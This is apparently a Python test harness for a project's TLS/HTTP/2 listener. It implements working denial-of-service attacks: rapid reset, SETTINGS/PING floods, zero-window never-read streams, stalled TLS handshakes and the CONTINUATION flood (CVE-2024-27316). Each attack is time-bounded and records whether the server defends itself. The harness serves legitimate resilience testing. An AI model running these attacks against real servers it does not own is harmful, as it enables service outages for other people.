#!/usr/bin/env python3
"""Abusive HTTP/2 and TLS clients for tether's TLS listener (tests/h2_abuse.rs).

Each subcommand attacks one connection pattern, is bounded in time (--duration / --hold),
and prints exactly one JSON line on stdout saying what it observed: frames and bytes sent,
bytes received, whether and when (seconds after the attack began) the server sent GOAWAY and
with which error code, and whether the connection was closed.

    python3 h2_abuse.py --port P --ca CA.pem rapid-reset --streams 5000
    python3 h2_abuse.py --port P --ca CA.pem settings-flood --frames 50000 [--ping]
    python3 h2_abuse.py --port P --ca CA.pem never-read --path /big --hold 5 [--connections 4]
    python3 h2_abuse.py --port P --ca CA.pem stall-handshake --connections 50 --hold 5 [--partial]
    python3 h2_abuse.py --port P --ca CA.pem continuation-flood --frames 100000

Frames are written by hand (hyperframe + hpack) rather than through h2's state machine, so a
client can do what a conforming one would not (reset at once, ignore flow control, never end
a header block). Requirements: tests/clients/requirements.txt (h2, hyperframe, hpack).
"""

import argparse
import json
import select
import socket
import ssl
import sys
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8
ERROR_NAMES = {
    0x0: "NO_ERROR",
    0x1: "PROTOCOL_ERROR",
    0x2: "INTERNAL_ERROR",
    0x3: "FLOW_CONTROL_ERROR",
    0x4: "SETTINGS_TIMEOUT",
    0x5: "STREAM_CLOSED",
    0x6: "FRAME_SIZE_ERROR",
    0x7: "REFUSED_STREAM",
    0x8: "CANCEL",
    0x9: "COMPRESSION_ERROR",
    0xA: "CONNECT_ERROR",
    0xB: "ENHANCE_YOUR_CALM",
    0xC: "INADEQUATE_SECURITY",
    0xD: "HTTP_1_1_REQUIRED",
}


def tls_context(ca):
    ctx = ssl.create_default_context(cafile=ca)
    ctx.set_alpn_protocols(["h2"])
    return ctx


def connect(args, timeout=10.0):
    raw = socket.create_connection((args.host, args.port), timeout=timeout)
    sock = tls_context(args.ca).wrap_socket(raw, server_hostname=args.server_name)
    alpn = sock.selected_alpn_protocol()
    if alpn != "h2":
        raise SystemExit(f"ALPN chose {alpn!r}, not h2")
    return sock


class Observer:
    """Reads and parses what the server sends, without ever blocking for long."""

    def __init__(self, sock, started):
        self.sock = sock
        self.started = started
        self.buf = b""
        self.bytes_received = 0
        self.frames_received = {}
        self.goaway = None  # {"error": name, "code": n, "last_stream_id": id, "at": secs}
        self.closed = None  # None, or {"how": "eof"|"reset"|..., "at": secs}
        self.rst_received = 0
        self.send_error = None  # the first failed write: {"how": ..., "at": secs}

    def elapsed(self):
        return round(time.monotonic() - self.started, 3)

    def poll(self, wait=0.0):
        """Reads whatever is there (waiting up to `wait` for the first byte); False once closed."""
        if self.closed:
            return False
        deadline = time.monotonic() + wait
        while True:
            if self.sock.pending() == 0:
                left = max(0.0, deadline - time.monotonic())
                r, _, _ = select.select([self.sock], [], [], left)
                if not r:
                    return True
            try:
                self.sock.setblocking(False)
                data = self.sock.recv(65536)
            except (ssl.SSLWantReadError, BlockingIOError):
                data = None
            except (ConnectionError, ssl.SSLError, OSError) as e:
                self.closed = {"how": type(e).__name__, "at": self.elapsed()}
                return False
            finally:
                try:
                    self.sock.setblocking(True)
                except OSError:
                    pass
            if data is None:
                if time.monotonic() >= deadline:
                    return True
                continue
            if data == b"":
                self.closed = {"how": "eof", "at": self.elapsed()}
                return False
            self.bytes_received += len(data)
            self.buf += data
            self.parse()
            # Keep draining while bytes are available, but stop waiting after the first read.
            deadline = time.monotonic()

    def parse(self):
        while len(self.buf) >= 9:
            try:
                frame, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            except Exception:  # unknown frame type: skip it
                length = int.from_bytes(self.buf[:3], "big")
                frame = None
            if len(self.buf) < 9 + length:
                return
            body = self.buf[9 : 9 + length]
            self.buf = self.buf[9 + length :]
            if frame is None:
                continue
            name = type(frame).__name__
            self.frames_received[name] = self.frames_received.get(name, 0) + 1
            try:
                frame.parse_body(memoryview(body))
            except Exception:
                continue
            if isinstance(frame, GoAwayFrame) and self.goaway is None:
                self.goaway = {
                    "error": ERROR_NAMES.get(frame.error_code, hex(frame.error_code)),
                    "code": frame.error_code,
                    "last_stream_id": frame.last_stream_id,
                    "at": self.elapsed(),
                }
            elif isinstance(frame, RstStreamFrame):
                self.rst_received += 1

    def report(self):
        return {
            "bytes_received": self.bytes_received,
            "frames_received": self.frames_received,
            "rst_received": self.rst_received,
            "goaway": self.goaway,
            "closed": self.closed,
            "send_error": self.send_error,
        }


def send(sock, data, obs, deadline):
    """Writes all of `data` unless the deadline passes first (the server stopped reading) or
    the connection breaks. Returns how many bytes went out."""
    view = memoryview(data)
    sent = 0
    while sent < len(view):
        left = deadline - time.monotonic()
        if left <= 0:
            return sent
        _, w, _ = select.select([], [sock], [], min(left, 0.2))
        if not w:
            continue
        try:
            sock.setblocking(False)
            n = sock.send(view[sent : sent + 16384])
        except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
            continue
        except (ConnectionError, ssl.SSLError, OSError) as e:
            # What the server sent before it closed may still be readable: the caller drains.
            if obs.send_error is None:
                obs.send_error = {"how": type(e).__name__, "at": obs.elapsed()}
            return sent
        finally:
            try:
                sock.setblocking(True)
            except OSError:
                pass
        sent += n
    return sent


def request_headers(encoder, args, path=None):
    return encoder.encode(
        [
            (":method", "GET"),
            (":scheme", "https"),
            (":authority", args.server_name),
            (":path", path or args.path),
            ("x-session-id", "abuse"),
        ]
    )


def start(sock, settings=None):
    """The client preface, our SETTINGS, and a blind ACK of the server's (we may never read)."""
    return (
        PREFACE
        + SettingsFrame(0, settings=settings or {}).serialize()
        + SettingsFrame(0, flags=["ACK"]).serialize()
    )


def emit(result):
    print(json.dumps(result), flush=True)


# ----------------------------------------------------------------------------------------------


def rapid_reset(args):
    """HEADERS then RST_STREAM(CANCEL) at once, stream after stream, reading only to notice a
    GOAWAY; a new connection after each GOAWAY or close, up to --connections."""
    started = time.monotonic()
    deadline = started + args.duration
    conns = []
    total_streams = 0
    while len(conns) < args.connections and time.monotonic() < deadline:
        sock = connect(args)
        obs = Observer(sock, started)
        encoder = hpack.Encoder()
        bytes_sent = send(sock, start(sock), obs, deadline)
        streams = 0
        stream_id = 1
        while streams < args.streams and time.monotonic() < deadline:
            batch = bytearray()
            for _ in range(min(args.batch, args.streams - streams)):
                block = request_headers(encoder, args)
                batch += HeadersFrame(
                    stream_id, data=block, flags=["END_HEADERS", "END_STREAM"]
                ).serialize()
                batch += RstStreamFrame(stream_id, error_code=CANCEL).serialize()
                stream_id += 2
                streams += 1
            n = send(sock, bytes(batch), obs, deadline)
            bytes_sent += n
            if n < len(batch) or not obs.poll(0) or obs.goaway:
                break
        # Whatever the server says after the last frame: GOAWAY, close, or nothing.
        drain_until = min(deadline, time.monotonic() + args.drain)
        while not obs.closed and time.monotonic() < drain_until:
            obs.poll(0.1)
        total_streams += streams
        conns.append({"streams_sent": streams, "bytes_sent": bytes_sent, **obs.report()})
        sock.close()
    # Defended: GOAWAY or closed. The last connection may have been cut by our own deadline.
    def defended(c):
        return bool(c["goaway"] or c["closed"] or c["send_error"])

    undefended = [c for c in conns[:-1] if not defended(c)]
    last_ids = [c["goaway"]["last_stream_id"] for c in conns if c["goaway"]]
    emit(
        {
            "attack": "rapid-reset",
            "connections": len(conns),
            "streams_sent": total_streams,
            "goaways": sorted({c["goaway"]["error"] for c in conns if c["goaway"]}),
            "goaway_count": len(last_ids),
            "enhance_your_calm": sum(
                1 for c in conns if c["goaway"] and c["goaway"]["error"] == "ENHANCE_YOUR_CALM"
            ),
            "closed_count": sum(1 for c in conns if c["closed"] or c["send_error"]),
            "max_goaway_last_stream_id": max(last_ids) if last_ids else None,
            "undefended": len(undefended),
            "undefended_conns": undefended[:3],
            "conns": conns[:2],
            "elapsed": round(time.monotonic() - started, 3),
        }
    )


def settings_flood(args):
    """Tens of thousands of SETTINGS (or PING) frames, never reading: every one asks for an ACK
    that piles up on the server's side unless it stops reading us."""
    started = time.monotonic()
    deadline = started + args.duration
    sock = connect(args)
    obs = Observer(sock, started)
    bytes_sent = send(sock, start(sock), obs, deadline)
    kind = "ping" if args.ping else "settings"
    if args.ping:
        one = PingFrame(0, opaque_data=b"abusive!").serialize()
    else:
        one = SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100}).serialize()
    frames = 0
    blocked_at = None
    while frames < args.frames and time.monotonic() < deadline:
        count = min(args.batch, args.frames - frames)
        data = one * count
        n = send(sock, data, obs, min(deadline, time.monotonic() + args.stall))
        frames += n // len(one)
        bytes_sent += n
        if obs.closed or obs.send_error:
            break
        if n < len(data):
            # The server stopped reading us for --stall seconds: it pushes back.
            blocked_at = obs.elapsed()
            break
    # Hold, never reading, then see what the server left for us (ACKs, GOAWAY) or whether it
    # closed the connection meanwhile.
    hold_until = min(deadline, time.monotonic() + args.hold)
    while time.monotonic() < hold_until and not obs.closed:
        time.sleep(0.05)
    drain_until = time.monotonic() + args.drain
    while not obs.closed and time.monotonic() < drain_until:
        obs.poll(0.1)
    emit(
        {
            "attack": f"{kind}-flood",
            "frames_sent": frames,
            "bytes_sent": bytes_sent,
            "send_blocked_at": blocked_at,
            **obs.report(),
            "elapsed": round(time.monotonic() - started, 3),
        }
    )
    sock.close()


def never_read(args):
    """--streams GETs on each of --connections connections that announced a zero stream window
    (SETTINGS_INITIAL_WINDOW_SIZE 0); never reads, never sends WINDOW_UPDATE; holds."""
    started = time.monotonic()
    deadline = started + args.duration
    conns = []
    for _ in range(args.connections):
        sock = connect(args)
        obs = Observer(sock, started)
        encoder = hpack.Encoder()
        data = bytearray(start(sock, {SettingsFrame.INITIAL_WINDOW_SIZE: args.window}))
        for i in range(args.streams):
            block = request_headers(encoder, args)
            data += HeadersFrame(
                1 + 2 * i, data=block, flags=["END_HEADERS", "END_STREAM"]
            ).serialize()
        sent = send(sock, bytes(data), obs, deadline)
        conns.append((sock, obs, sent))
    hold_until = min(deadline, time.monotonic() + args.hold)
    while time.monotonic() < hold_until:
        time.sleep(0.05)
    reports = []
    for sock, obs, sent in conns:
        # Only now look at what arrived (headers, no DATA beyond the window; or GOAWAY).
        obs.poll(0.2)
        reports.append({"bytes_sent": sent, **obs.report()})
        sock.close()
    emit(
        {
            "attack": "never-read",
            "connections": len(reports),
            "streams_per_connection": args.streams,
            "closed": sum(1 for r in reports if r["closed"]),
            "goaways": sorted({r["goaway"]["error"] for r in reports if r["goaway"]}),
            "data_frames_received": sum(r["frames_received"].get("DataFrame", 0) for r in reports),
            "conns": reports[:4],
            "elapsed": round(time.monotonic() - started, 3),
        }
    )


def client_hello(args):
    """The first flight of a real TLS handshake to `localhost` (a ClientHello), via a memory BIO."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = tls_context(args.ca).wrap_bio(incoming, outgoing, server_hostname=args.server_name)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def stall_handshake(args):
    """--connections TCP connections that send nothing (or, with --partial, half a ClientHello)
    and hold; records when (if ever) the server closes each."""
    started = time.monotonic()
    hello = client_hello(args)
    part = hello[: len(hello) // 2] if args.partial else b""
    socks = []
    for _ in range(args.connections):
        s = socket.create_connection((args.host, args.port), timeout=10)
        if part:
            s.sendall(part)
        s.setblocking(False)
        socks.append([s, time.monotonic(), None])
    hold_until = started + args.hold
    while time.monotonic() < hold_until and any(c[2] is None for c in socks):
        open_socks = [c[0] for c in socks if c[2] is None]
        r, _, _ = select.select(open_socks, [], [], min(0.2, max(0, hold_until - time.monotonic())))
        for c in socks:
            if c[0] in r and c[2] is None:
                try:
                    data = c[0].recv(4096)
                except BlockingIOError:
                    continue
                except OSError:
                    data = b""
                if data == b"":
                    c[2] = round(time.monotonic() - c[1], 3)
    closed_after = [c[2] for c in socks if c[2] is not None]
    for c in socks:
        c[0].close()
    emit(
        {
            "attack": "stall-handshake",
            "partial": bool(args.partial),
            "hello_bytes_sent": len(part),
            "connections": len(socks),
            "closed": len(closed_after),
            "closed_after_min": min(closed_after) if closed_after else None,
            "closed_after_max": max(closed_after) if closed_after else None,
            "held": round(time.monotonic() - started, 3),
        }
    )


def continuation_flood(args):
    """HEADERS without END_HEADERS, then CONTINUATION frames that never end the block (the 2024
    CONTINUATION flood, CVE-2024-27316): the server must not buffer the block without bound."""
    started = time.monotonic()
    deadline = started + args.duration
    sock = connect(args)
    obs = Observer(sock, started)
    encoder = hpack.Encoder()
    data = start(sock) + HeadersFrame(1, data=request_headers(encoder, args)).serialize()
    bytes_sent = send(sock, data, obs, deadline)
    # Each fragment: literal header fields without indexing (new names, so nothing is shared).
    fragment = hpack.Encoder().encode(
        [(f"x-flood-{i}", "v" * 200) for i in range(args.fields)], huffman=False
    )
    one = ContinuationFrame(1, data=fragment).serialize()
    frames = 0
    while frames < args.frames and time.monotonic() < deadline:
        count = min(args.batch, args.frames - frames)
        chunk = one * count
        n = send(sock, chunk, obs, deadline)
        bytes_sent += n
        frames += n // len(one)
        if n < len(chunk) or not obs.poll(0) or obs.goaway:
            break
    drain_until = min(deadline, time.monotonic() + args.drain)
    while not obs.closed and time.monotonic() < drain_until:
        obs.poll(0.1)
    emit(
        {
            "attack": "continuation-flood",
            "frames_sent": frames,
            "bytes_sent": bytes_sent,
            "fragment_bytes": len(fragment),
            **obs.report(),
            "elapsed": round(time.monotonic() - started, 3),
        }
    )
    sock.close()


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--ca", required=True, help="PEM file of the CA to verify the server against")
    p.add_argument("--server-name", default="localhost")
    p.add_argument("--path", default="/")
    p.add_argument("--duration", type=float, default=20.0, help="hard bound on the attack")
    p.add_argument("--drain", type=float, default=2.0, help="how long to wait for a GOAWAY/close")
    sub = p.add_subparsers(dest="cmd", required=True)

    s = sub.add_parser("rapid-reset")
    s.add_argument("--streams", type=int, default=5000, help="per connection")
    s.add_argument("--connections", type=int, default=1)
    s.add_argument("--batch", type=int, default=100)
    s.set_defaults(fn=rapid_reset)

    s = sub.add_parser("settings-flood")
    s.add_argument("--frames", type=int, default=50000)
    s.add_argument("--ping", action="store_true", help="PING frames instead of SETTINGS")
    s.add_argument("--batch", type=int, default=1000)
    s.add_argument("--stall", type=float, default=2.0, help="a send blocked this long: stop")
    s.add_argument("--hold", type=float, default=3.0)
    s.set_defaults(fn=settings_flood)

    s = sub.add_parser("never-read")
    s.add_argument("--streams", type=int, default=128, help="per connection")
    s.add_argument("--connections", type=int, default=1)
    s.add_argument("--window", type=int, default=0, help="SETTINGS_INITIAL_WINDOW_SIZE")
    s.add_argument("--hold", type=float, default=5.0)
    s.set_defaults(fn=never_read)

    s = sub.add_parser("stall-handshake")
    s.add_argument("--connections", type=int, default=50)
    s.add_argument("--partial", action="store_true", help="send half a ClientHello first")
    s.add_argument("--hold", type=float, default=5.0)
    s.set_defaults(fn=stall_handshake)

    s = sub.add_parser("continuation-flood")
    s.add_argument("--frames", type=int, default=100000)
    s.add_argument("--fields", type=int, default=4, help="header fields per CONTINUATION")
    s.add_argument("--batch", type=int, default=100)
    s.set_defaults(fn=continuation_flood)

    args = p.parse_args()
    args.fn(args)


if __name__ == "__main__":
    sys.exit(main())
